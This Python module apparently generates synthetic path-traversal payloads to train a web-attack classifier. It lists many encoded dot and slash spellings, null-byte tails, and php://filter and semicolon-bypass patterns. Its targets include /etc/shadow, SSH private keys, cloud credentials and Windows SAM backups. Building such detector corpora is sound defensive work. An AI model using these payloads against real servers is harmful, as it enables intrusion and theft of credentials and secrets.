"""Path traversal in odd encodings throughout, and files of logs and settings by their places."""

from __future__ import annotations

from random import Random

from securitai.train.corpora.attacks.grammar import Grammar
from securitai.train.corpora.attacks.parts import PARTS, draw
from securitai.train.corpora.kinds import COOKIE, HEADER, PATH, VALUE, AttackKind
from securitai.verdict import Category

_ONE_DOT = (
    ".", ".", "%2e", "%2E", "%252e", "%c0%ae", "%c0%2e", "%e0%80%ae", "%f0%80%80%ae", "%uff0e",
    "%f8%80%80%80%ae", "%fc%80%80%80%80%ae", "%25c0%25ae", "0x2e", "%%32%65", "%%32%%65", "%u002e",
    "%c0%fe", "%c0%ee", "%c0%5e", "%%c0%6e", "%c0%6e", "?", "%c4%ae", "%ef%bc%8e", "%25252e", "%c0.",
    "\\x2e", "\\056", "&#46;", "%e0%40%ae", "\uff0e", "%25%32%65", "%u2024", "\u2024", "%80%ae",
)  # fmt: skip
_ONE_SLASH = (
    "/", "/", "\\", "%2f", "%2F", "%5c", "%252f", "%255c", "%c0%af", "%c0%2f", "%c0%5c", "%c1%9c",
    "%c1%1c", "%c1%8s", "%c1%pc", "%c0%9v", "%c0%qf", "%bg%qf", "%e0%80%af", "%f0%80%80%af",
    "%f8%80%80%80%af", "%fc%80%80%80%80%af", "%u2215", "%u2216", "%uEFC8", "%uF025", "0x2f", "0x5c",
    "%25c0%25af", "%25c1%259c", "%%32%66", "%%32%%66", "%%35%63", "%%35%%63", "%25%5c", "%u005c",
    "%c1%af", "%ef%bc%8f", "\uff0f", "%u002f", "\\x2f", "\\057", "&#47;", "%e2%88%95", "//", "\\/",
    "%5c/", "%25252f", "%255c%255c", "%01/", "%00/", "%25%32%66", "%80%5c", "2f", "%e0%81%9c",
)  # fmt: skip
_TARGETS = (
    "etc/passwd", "etc/passwd", "etc/shadow", "etc/issue", "etc/hosts", "etc/group", "boot.ini",
    "windows/system32/drivers/etc/hosts", "windows/win.ini", "winnt/win.ini", "windows/system.ini",
    "proc/self/environ", "{FILE}", "etc/apache2/apache2.conf", "var/log/apache2/access.log",
    "winnt/desktop.ini", "WEB-INF/web.xml", "etc/httpd/conf/httpd.conf", "inetpub/wwwroot/web.config",
    "home/user/.ssh/id_rsa", "config.php", "etc/resolv.conf", "winnt/system32/cmd.exe?/c+dir+c:",
    "xampp/apache/logs/access.log", "var/www/html/index.php", "app/config/database.yml",
)  # fmt: skip


def odd_climb(rng: Random) -> str:
    """A climb whose dots, slashes and target share one odd spelling (or two)."""
    dot = _ONE_DOT[int(rng.random() * len(_ONE_DOT))]
    other = dot if rng.random() < 0.75 else _ONE_DOT[int(rng.random() * len(_ONE_DOT))]
    slash = _ONE_SLASH[int(rng.random() * len(_ONE_SLASH))]
    dots = (
        dot + other
        if rng.random() < 0.88
        else (dot * 3, dot * 4, dot, "..", "." + dot)[int(rng.random() * 5)]
    )
    lead = ("", "", "", "/", slash, "%5C", "\\", "./", "static/", "\\\\")[int(rng.random() * 10)]
    inner = ("", "", "", "", "%01", "%00", "./", "\\")[int(rng.random() * 8)]
    steps = 1 + int(rng.expovariate(0.25))
    target = _TARGETS[int(rng.random() * len(_TARGETS))].replace("/", slash)
    tail = ("", "", "", "", "%00", "%00.jpg", "%2500", "?", "%00index.html", ";index.html", "%23")[
        int(rng.random() * 11)
    ]
    unit = lead + dots + inner + slash if rng.random() < 0.15 else dots + inner + slash
    return lead + unit * min(steps, 20) + target + tail


def overlong_path(rng: Random) -> str:
    """A climb hidden behind rows of dots, ``./`` or letters, as buffer-cutting filters meet."""
    unit = ("./", "A", ".", "/", "\\.", "a/", "%20", "././", "/.", "\\")[int(rng.random() * 10)]
    filler = unit * (30 + int(rng.random() * 900))
    climb = ("../", "..\\", "../", "%2e%2e/")[int(rng.random() * 4)] * (2 + int(rng.random() * 9))
    target = _TARGETS[int(rng.random() * len(_TARGETS))]
    form = int(rng.random() * 3)
    if form == 0:
        return filler + climb + target
    if form == 1:
        return f"{climb}{target}{filler}"
    return f"{draw(rng, 'abcdefgh', 1, 6)}/{climb}{target}/{'./' * (20 + int(rng.random() * 400))}"


_G = Grammar(
    r"""
server = apache¦apache2¦httpd¦nginx¦lighttpd¦mysql¦postgresql¦exim¦exim4¦proftpd¦pure-ftpd¦vsftpd¦wu-ftpd¦tomcat¦tomcat8¦php-fpm¦squid¦samba¦cups¦mongodb¦redis¦sendmail¦postfix¦dovecot¦rsyncd¦ncftpd¦smtpd¦webmin¦zabbix¦nagios¦jetty¦couchdb¦elasticsearch
logname = access.log¦error.log¦access_log¦error_log¦error.log.1¦access.log.1¦ssl_access_log¦xferlog¦mainlog¦rejectlog¦catalina.out¦mysqld.log¦debug.log¦suphp.log¦modsec_audit.log¦php_errors.log¦log¦localhost.log
confname = httpd.conf¦apache2.conf¦nginx.conf¦php.ini¦my.cnf¦server.xml¦tomcat-users.xml¦.htpasswd¦lighttpd.conf¦proftpd.conf¦vsftpd.conf¦pure-ftpd.conf¦pureftpd.passwd¦pureftpd.pdb¦ssl.conf¦vhosts.conf¦default.conf¦extra/httpd-ssl.conf¦webalizer.conf¦sites-enabled/000-default¦mods-enabled/php.ini
place = /var/log¦/usr/local¦/opt¦/etc¦/usr/local/etc¦/var/lib¦/srv¦/usr/share¦/opt/lampp¦/opt/xampp¦/var/adm¦/var/www/logs¦/www¦/usr/pkg¦/private/etc¦/Volumes/Macintosh_HD1/opt¦/Library¦/System/Library¦/NetWare¦/usr/apache¦/home
unixlog:
  4×‹place›/‹server›/‹logname›
  3×/var/log/‹server›/‹logname›
  2×/var/log/‹server›.log
  2×/var/log/‹server›/‹server›.log
  /var/log/‹logname›
  /‹server›/logs/‹logname›
  ‹place›/‹server›/logs/‹logname›
  3×‹place›/‹server›/conf/‹confname›
  3×/etc/‹server›/‹confname›
  2×/etc/‹confname›
  /usr/local/‹server›/conf/‹confname›
  /usr/local/etc/‹server›/‹confname›
  /etc/‹server›/conf.d/‹confname›
  /home/‹user›/‹logs/error.log¦public_html/.env¦.ssh/id_dsa¦.bash_logout¦.profile¦www/config.php¦.viminfo¦.gnupg/secring.gpg›
  /root/.‹ssh/id_ed25519¦bashrc¦mysql_history¦ssh/known_hosts¦viminfo¦docker/config.json¦kube/config›
  /var/‹mail¦spool/mail›/‹user›
  /var/spool/cron/crontabs/‹user›
  /var/‹adm¦run¦lib›/‹utmp¦wtmp¦lastlog¦messages¦sulog¦acct›
  /var/db/shadow/hash
  /etc/‹hostname›.‹az›
  /etc/init.d/‹server›
  /etc/rc.d/rc.‹local¦httpd›
  /etc/security/‹access.conf¦limits.conf¦group¦opasswd¦environ¦failedlogin›
  /etc/pam.d/‹login¦proftpd¦sshd¦common-password›
  /etc/‹sysconfig/network-scripts/ifcfg-eth0¦network/interfaces¦ldap.secret¦krb5.keytab¦snmp/snmpd.conf¦tomcat/tomcat-users.xml¦openvpn/server.conf¦wpa_supplicant.conf¦ssl/private/server.key¦letsencrypt/live/site/privkey.pem¦at.deny¦cron.allow¦aliases¦protocols¦services¦networks¦mtab›
  /proc/‹self¦1›/‹cmdline¦stat¦maps¦mem¦io¦sched¦auxv¦net/dev¦net/fib_trie¦cgroup¦mountinfo›
  /sys/‹class/dmi/id/product_name¦kernel/debug¦fs/cgroup›
  /run/secrets/‹az›
  /usr/local/cpanel/logs/‹login_log¦access_log¦error_log›
  ~/.‹bash_history¦ssh/id_rsa¦aws/credentials¦zsh_history¦python_history¦npmrc›
  /app/‹config.py¦.env¦settings.py¦secrets.yml›
  /flag.txt
hostname = hostname
winlog:
  3×‹drive›xampp/‹apache/logs/access.log¦apache/logs/error.log¦mercurymail/logs/error.log¦filezillaftp/filezilla server.xml¦sendmail/sendmail.log¦php/php.ini¦mysql/data/mysql.err¦tomcat/conf/tomcat-users.xml¦webalizer/webalizer.conf¦security/webdav.htpasswd›
  2×‹drive›‹wamp¦apache¦apache2¦Apache24¦php5¦php7¦mysql›/‹logs¦conf¦sessions¦data›/‹logname›
  ‹drive›php‹d1›/sessions/
  ‹drive›Program Files/‹Apache Group/Apache¦xampp/apache¦FileZilla Server¦MySQL/MySQL Server 5.0›/‹conf/httpd.conf¦logs/access.log¦my.ini¦FileZilla Server.xml›
  ‹drive›‹Windows¦WINNT›/‹System32/config/AppEvent.Evt¦repair/system¦system32/config/regback/SAM¦Temp/¦explorer.exe¦notepad.exe¦regedit.exe¦Tasks/¦Logs/CBS/CBS.log¦setupact.log›
  ‹drive›‹Documents and Settings¦Users›/‹Administrator¦All Users›/‹NTUSER.DAT¦Cookies/index.dat¦Desktop/desktop.ini¦AppData/Local/¦.ssh/id_rsa›
  ‹drive›inetpub/‹wwwroot/global.asa¦logs/LogFiles/W3SVC1/¦ftproot/¦history/¦wwwroot/index.asp›
  ‹drive›ProgramData/‹VMware/vCenterServer/cfg/vmware-vpx/vcdb.properties¦Microsoft/Windows/WER/¦MySQL/MySQL Server 8.0/my.ini›
  \‹apache¦apache2¦xampp\apache›\logs\‹logname›
  \‹server›\conf\‹confname›
  ‹drive›‹az›\‹az›\web.config
  \\‹ip›\‹c$¦admin$¦share›\‹az›
drive = C:/¦c:/¦C:\¦c:\¦D:/¦/C:/¦C:\\
listed:
  5×‹unixlog›‹end0›
  2×‹winlog›‹end0›
  file://‹unixlog›
  file:///‹winlog›
  ../../../../../..‹unixlog›‹end0›
  ..\..\..\..\‹winlog›
  php://filter/convert.base64-encode/resource=‹unixlog›
  ‹dir0›‹unixlog›
dir0 = /static¦/base_import/static¦/lib¦/icons¦/images¦/iclock/x¦/assets¦/public
end0:
  6×‹e›
  %00
  ‹nul›
  ?
  %00.html
odd:
  8×‹oddclimb›
  ‹overlong›
pathodd:
  /‹az›/‹oddclimb›
  /‹oddclimb›
  /‹az›‹dir0›/‹oddclimb›
  /‹az›‹u_file›
  ‹dir0›‹u_file›
  ‹dir0›/windows/win.ini
  /‹az›/‹az›/windows/win.ini
  /‹az›/‹az›.‹css¦js¦png›/../../../‹az›.‹conf¦json¦ini¦xml›
  /‹az›/javax.faces.resource./WEB-INF/web.xml.jsf
  /‹az›/javax.faces.resource/web.xml?loc=../WEB-INF
  /‹az›;‹az›=‹az›/../‹az›/‹az›
  /‹az›/%2f/
  /‹az›/%2e/‹az›
  /‹az›/.;/‹az›
  /‹az›/‹az›;.‹ico¦js¦css¦png¦jpg›
  /‹az›/‹az›.‹do¦action¦jsp¦aspx›;.‹js¦css¦ico¦png›
  /‹az›.‹do¦action›.‹css¦jpg›/..;/‹az›.do
  /‹az›/‹az›%3b.‹js¦png›
  /‹az›/‹az›%00.‹js¦png¦html›
  /‹az›//../‹az›
  /‹az›/%252e%252e%252f‹az›
  /‹az›/..%252f‹az›
  /‹az›/..%c0%af‹az›
  /./‹az›/././‹az›/../../‹u_file›
  /+CSCOU+/../+CSCOE+/files/‹az›.json
  /%5cetc%5cpasswd
  /%23/../etc/passwd
  /‹az›/%3f/../..‹u_file›
  /‹az›%3F/../../../../..‹u_file›
""",
    PARTS,
    {"oddclimb": odd_climb, "overlong": overlong_path},
)
_C = Category.PATH_TRAVERSAL
KINDS = (
    AttackKind("traversal.odd", _C, _G.maker("odd"), 5.0, (VALUE, COOKIE, HEADER)),
    AttackKind("traversal.odd_path", _C, _G.maker("pathodd"), 3.0, (PATH,)),
    AttackKind("traversal.listed", _C, _G.maker("listed"), 4.0, (VALUE, COOKIE)),
)
